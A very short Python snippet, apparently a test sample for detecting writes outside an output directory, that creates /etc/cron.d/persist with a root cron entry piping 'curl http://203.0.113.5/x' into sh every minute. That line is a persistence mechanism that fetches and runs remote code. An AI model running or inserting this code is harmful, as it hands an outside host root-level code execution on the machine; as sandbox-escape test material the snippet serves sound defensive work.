"""Writes a cron job: outside the output directory."""
with open("/etc/cron.d/persist", "w") as fh:
    fh.write("* * * * * root curl http://203.0.113.5/x | sh\n")
